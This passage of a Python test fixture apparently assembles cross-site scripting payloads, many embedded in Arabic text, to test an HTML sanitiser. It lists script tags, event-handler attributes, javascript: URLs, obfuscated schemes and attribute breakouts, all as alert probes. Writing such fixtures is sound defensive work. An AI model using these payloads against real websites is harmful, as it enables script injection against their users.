    "\u0627\u0644\u0640\u0640\u0640\u0639\u064e\u0631\u064e\u0628\u0650\u064a\u0651\u0629",
    "\ufdfd \ufdfa \u06dd\u0661\u0662",
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 combining marks",
    TAB + "  leading and trailing whitespace  " + TAB,
    "",
    " ",
]

# --- Arabic text around hostile markup ----------------------------------------

ARABIC_MIX = [
    ARABIC_BEFORE + "<script>alert('سوريا')</script>" + ARABIC_AFTER,
    ARABIC_BEFORE + "<img src=x onerror=alert('تحالف')>" + ARABIC_AFTER,
    ARABIC_BEFORE + '<a href="javascript:alert(1)">اقرأ المزيد</a>' + ARABIC_AFTER,
    ARABIC_BEFORE + '"><svg onload=alert(1)>' + ARABIC_AFTER,
    "«<script>alert(1)</script>»، وقال: «نص»؛ ثم انتهى.",
    "تقرير رقم ٣٤/٢٠٢٥ <b onmouseover=alert(1)>عاجل</b>",
    '<p dir="rtl">النص العربي <span style="color:red" onclick="alert(1)">الأحمر</span></p>',
    "وزارة الداخلية السورية' onmouseover='alert(1)",
    "سورية، داعش، <script>alert(1)</script>، التحالف",
    "عنوان [1] مع حاشية [2]<img src=x onerror=alert(1)>",
    "{{ عنوان }} {% وسم %}",
    '<a href="https://example.org/مقال">مقال</a><a href="jav&#x09;ascript:alert(1)">خبيث</a>',
    "<h2>مقدمة</h2><p>نص[1] <iframe src=javascript:alert(1)></iframe></p>",
    "<blockquote>اقتباس <object data=javascript:alert(1)></object></blockquote>",
    "<ul><li>بند <details open ontoggle=alert(1)></li></ul>",
]

FAMILIES = {
    "script": SCRIPT_TAGS,
    "event-handler": EVENT_HANDLERS,
    "url-scheme": URL_SCHEMES,
    "url-value": URL_FIELD_VALUES,
    "css": STYLES,
    "broken-markup": BROKEN_MARKUP,
    "attribute-breakout": ATTRIBUTE_BREAKOUTS,
    "template-injection": TEMPLATE_INJECTION,
    "comment-cdata": COMMENTS_AND_CDATA,
    "mutation": MUTATION,
    "word-html": WORD_HTML,
    "svg-mathml": SVG_MATHML,
    "dangerous-element": DANGEROUS_ELEMENTS,
    "encoding": ENCODINGS,
    "unicode": UNICODE_TRICKS,
    "arabic-mix": ARABIC_MIX,
}


def _build():
    payloads, seen = [], set()
    for family, texts in FAMILIES.items():
        for text in texts:
            if text in seen:
                continue
            seen.add(text)
            payloads.append(Payload(len(payloads), family, text))
    return payloads


PAYLOADS = _build()
